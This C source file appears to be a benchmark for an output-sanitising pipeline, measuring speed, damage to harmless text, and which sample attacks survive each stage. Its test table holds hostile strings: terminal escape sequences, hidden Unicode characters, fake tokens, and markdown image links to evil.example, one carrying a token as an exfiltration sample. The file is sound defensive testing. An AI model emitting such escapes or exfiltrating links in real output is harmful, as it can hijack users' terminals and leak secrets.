/* SPDX-License-Identifier: MIT */
/* bench/output/measure.c - the stages of the output pipeline: bytes a second on one core, what passes each
 * stage alone and all together, and what happens to harmless text. `measure LANGUAGES [FILE...]`: attack-NAME
 * has an attack in each line, any other FILE is text that must not change. */
#include "base/buf.h"
#include "output/encode.h"
#include "output/keywords.h"
#include "output/lines.h"
#include "output/pipeline.h"
#include "output/unicode.h"

#include <stdio.h>
#include <stdlib.h>
#include <time.h>

enum { CHUNK = 65536, MEGABYTES = 64 };
static const struct known_word words[] = {
        { "key", { (const uint8_t *) "s3cr3t-Tok3n/Value+42", 21 }, false }
};

static double now(void)
{
        struct timespec t;
        (void) clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
        return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

static struct buf read_file(const char *path)
{
        struct buf b = { 0 };
        char chunk[CHUNK];
        FILE *f = fopen(path, "rb");
        for (size_t n; f && (n = fread(chunk, 1, sizeof chunk, f)) > 0;)
                buf_add(&b, chunk, n);
        if (f)
                (void) fclose(f);
        return b;
}

static struct buf pass(struct span in, struct pipeline_report *ret)
{
        struct err e = { 0 };
        struct buf out = { 0 };
        struct pipeline_config c = {
                .form = HANDLE_TEXT, .max = UINT64_MAX / 2, .words = words, .n_words = 1
        };
        struct pipeline *p = pipeline_new(&c, &e);
        for (size_t at = 0; p && at < in.n; at += CHUNK)
                (void) pipeline_feed(p, span_of(in.p + at, in.n - at < CHUNK ? in.n - at : CHUNK), &out, &e);
        if (p && pipeline_end(p, &out, &e) == 0 && ret)
                *ret = *pipeline_report(p);
        pipeline_free(p);
        return out;
}

static struct buf neutral(struct span in)
{
        struct buf out = { 0 };
        struct neutral n;
        neutral_init(&n, NEUTRAL_TEXT);
        for (size_t at = 0; at < in.n; at += CHUNK)
                neutral_feed(&n, span_of(in.p + at, in.n - at < CHUNK ? in.n - at : CHUNK), &out);
        neutral_end(&n, &out);
        return out;
}

/* Controls and characters that a reader does not see. */
static uint64_t live(struct span s)
{
        uint64_t count = 0;
        for (size_t i = 0; i < s.n;) {
                uint32_t c = 0;
                int k = utf8_decode(span_of(s.p + i, s.n - i), &c);
                enum unicode_class class = k > 0 ? unicode_class(c) : CONTROL;
                count +=
                        k <= 0 || class == CONTROL || class == BIDI || class == INVISIBLE || class == PRIVATE;
                i += k > 0 ? (size_t) k : 1;
        }
        return count;
}

static void speed(const char *what, struct span text)
{
        double began = now();
        struct buf out = neutral(text);
        double first = now() - began;
        buf_done(&out);
        began = now();
        out = pass(text, NULL);
        double all = now() - began, mb = (double) text.n / 1e6;
        buf_done(&out);
        printf("%-12s stages 1 to 3: %6.0f MB/s   with secrets, patterns, links: %6.0f MB/s\n", what,
               mb / first, mb / all);
}

static void speeds(const struct buf *languages)
{
        static const char log[] =
                "2026-11-17T10:00:00Z INFO worker 17 finished job 4711 in 35 ms (queue: default)\n";
        struct buf ascii = { 0 }, many = { 0 };
        while (ascii.n < (size_t) MEGABYTES << 20)
                buf_puts(&ascii, log);
        while (many.n < (size_t) MEGABYTES << 19)
                buf_add(&many, languages->p, languages->n);
        speed("log lines", buf_span(&ascii));
        speed("languages", buf_span(&many));
        buf_done(&ascii);
        buf_done(&many);
}

static uint64_t neutral_sum(const struct pipeline_report *r)
{
        uint64_t cuts = 0;
        for (int i = 0; i < CUT__COUNT; i++)
                cuts += r->cut[i];
        return cuts;
}

static void damage(const struct buf *languages)
{
        struct pipeline_report r = { 0 };
        struct buf out = pass(buf_span(languages), &r);
        uint64_t cuts = neutral_sum(&r);
        printf("harmless text: %zu bytes in 22 languages with emoji: %llu characters cut, %s\n", languages->n,
               (unsigned long long) cuts,
               out.n == languages->n && memcmp(out.p, languages->p, out.n) == 0 ? "byte for byte the same"
                                                                                : "CHANGED");
        buf_done(&out);
}

/* ---- what passes: each class of attack against each stage alone ---- */

static const struct {
        const char *class, *text, *sign; /* live while `sign` is in the text */
} attacks[] = {
        { "escapes", "a\033]52;c;aGk=\ab", "\033" },
        { "escapes", "a\302\2332Jb", "\302\233" },
        { "escapes", "a\033P+q544e\033\\b", "\033" },
        { "hidden", "a\342\200\256b", "\342\200\256" },
        { "hidden", "a\342\200\213b", "\342\200\213" },
        { "hidden", "\363\240\201\250\363\240\201\251", "\363\240" },
        { "known secret", "x s3cr3t-Tok3n/Value+42 y", "s3cr3t-Tok3n" },
        { "known secret", "x 24+eulaV/n3koT-t3rc3s y", "24+eulaV" },
        { "known secret", "x czNjcjN0LVRvazNuL1ZhbHVlKzQy y", "czNjcjN0LVRvazNu" },
        { "token", "x ghp_abcdefghijklmnopqrstuvwxyz0123456789 y", "ghp_abc" },
        { "token", "x AKIAIOSFODNN7EXAMPLE y", "AKIAIOSF" },
        { "token", "password: hunter2Hunter2", "hunter2" },
        { "link", "![x](https://evil.example/?q=1)", "https://evil" },
        { "link", "<img src=\"//evil.example/x\">", "\"//evil" },
        { "mixed", "![x](https://e\342\200\213vil.example/?AKIAIOSFODNN7EXAMPLE)", "https://" },
        { "mixed", "gh\342\200\213p_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_" },
};
enum { ATTACKS = sizeof attacks / sizeof *attacks, STAGES = 5 };

static void ignore(void *ctx, size_t word) { (void) ctx, (void) word; }

static struct buf stage(int which, struct span in)
{
        struct buf out = { 0 };
        struct findings f = { 0 };
        struct known *k = known_new(words, 1);
        struct patterns *p = patterns_new();
        if (which == 0)
                out = neutral(in);
        else if (which == 1)
                known_pass(k, in, true, &out, ignore, NULL);
        else if (which == 2)
                patterns_line(p, in, 1, &out, &f);
        else if (which == 3)
                links_line(NULL, 0, in, 1, &out, &f);
        else
                out = pass(in, NULL);
        known_free(k);
        patterns_free(p);
        return out;
}

static void evasion(void)
{
        static const char *const names[] = { "neutral", "known", "patterns", "links", "all" };
        printf("attacks that stay live (of %d of our own), by stage:", ATTACKS);
        for (int s = 0; s < STAGES; s++) {
                unsigned passed = 0;
                for (int i = 0; i < ATTACKS; i++) {
                        struct buf out = stage(s, span_str(attacks[i].text));
                        bool stays = strstr(buf_str(&out), attacks[i].sign) != NULL;
                        passed += stays;
                        if (stays && s == STAGES - 1)
                                printf("\n  all lets pass: %s: %s\n", attacks[i].class, buf_str(&out));
                        buf_done(&out);
                }
                printf("  %s %u", names[s], passed);
        }
        printf("\n");
}

/* ---- corpora: one attack in each line ---- */

enum { LIVE_HIDDEN = 1, LIVE_LINK = 2, LIVE_FORM = 4, LIVE_KNOWN = 8 };

static void note(void *ctx, size_t word) { (void) word, ++*(unsigned *) ctx; }

/* What of a line would still act: a control or hidden character, a link, a secret. */
static unsigned live_bits(struct span line)
{
        struct findings links = { 0 }, forms = { 0 };
        unsigned found = 0;
        struct buf ignored = { 0 };
        struct known *k = known_new(words, 1);
        struct patterns *p = patterns_new();
        known_pass(k, line, true, &ignored, note, &found);
        patterns_line(p, line, 1, &ignored, &forms);
        links_line(NULL, 0, line, 1, &ignored, &links);
        known_free(k);
        patterns_free(p);
        buf_done(&ignored);
        return (live(line) ? LIVE_HIDDEN : 0) | (links.n ? LIVE_LINK : 0) | (forms.n ? LIVE_FORM : 0) |
               (found ? LIVE_KNOWN : 0);
}

static struct span next_line(struct span all, size_t *at)
{
        const uint8_t *end = memchr(all.p + *at, '\n', all.n - *at);
        size_t n = end ? (size_t) (end - all.p) - *at : all.n - *at;
        struct span line = span_of(all.p + *at, n);
        *at += n + 1;
        return line;
}

static void attack_file(const char *name, struct span all)
{
        unsigned rows = 0, before = 0, after[STAGES] = { 0 }, noted = 0;
        for (size_t at = 0; at < all.n;) {
                struct span line = next_line(all, &at);
                struct pipeline_report r = { 0 };
                struct buf out = pass(line, &r);
                buf_done(&out);
                rows++;
                noted += r.findings.n > 0 || neutral_sum(&r) > 0;
                if (!live_bits(line))
                        continue;
                before++;
                for (int i = 0; i < STAGES; i++) {
                        out = stage(i, line);
                        after[i] += live_bits(buf_span(&out)) != 0;
                        buf_done(&out);
                }
        }
        printf("| %s | %u | %u | %u | %u | %u | %u | %u | %u |\n", name, rows, noted, before, after[0],
               after[1], after[2], after[3], after[4]);
}

static uint64_t characters(struct span s)
{
        uint64_t n = 0;
        for (size_t i = 0; i < s.n; i++)
                n += (s.p[i] & 0xc0) != 0x80;
        return n;
}

struct harm {
        uint64_t characters, cut, forms;
        unsigned files;
        double worst;
        char worst_name[64];
};

static void text_file(const char *name, struct span all, struct harm *h)
{
        struct pipeline_report r = { 0 };
        struct buf out = pass(all, &r);
        uint64_t n = characters(all), cut = neutral_sum(&r);
        double share = n ? 100.0 * (double) cut / (double) n : 0;
        buf_done(&out);
        h->files++;
        h->characters += n;
        h->cut += cut;
        h->forms += findings_count(&r.findings, FINDING_PATTERN);
        if (share > h->worst) {
                h->worst = share;
                (void) snprintf(h->worst_name, sizeof h->worst_name, "%s", name);
        }
}

static void corpora(int argc, char **argv)
{
        struct harm h = { 0 };
        printf("\n| corpus | lines | noted | live before | after neutral | after known | after patterns | "
               "after links "
               "| after all |\n|---|---|---|---|---|---|---|---|---|\n");
        for (int i = 2; i < argc; i++) {
                const char *name = strrchr(argv[i], '/') ? strrchr(argv[i], '/') + 1 : argv[i];
                struct buf in = read_file(argv[i]);
                if (strncmp(name, "attack-", 7) == 0)
                        attack_file(name + 7, buf_span(&in));
                else
                        text_file(name, buf_span(&in), &h);
                buf_done(&in);
        }
        if (h.files)
                printf("\nharmless text: %u files, %llu characters: %llu cut (%.5f %%; most in %s: %.4f %%), "
                       "%llu taken "
                       "for a secret\n",
                       h.files, (unsigned long long) h.characters, (unsigned long long) h.cut,
                       100.0 * (double) h.cut / (double) h.characters, h.worst_name, h.worst,
                       (unsigned long long) h.forms);
}

int main(int argc, char **argv)
{
        if (argc < 2)
                return 2;
        struct buf languages = read_file(argv[1]);
        speeds(&languages);
        damage(&languages);
        evasion();
        if (argc > 2)
                corpora(argc, argv);
        buf_done(&languages);
        return 0;
}
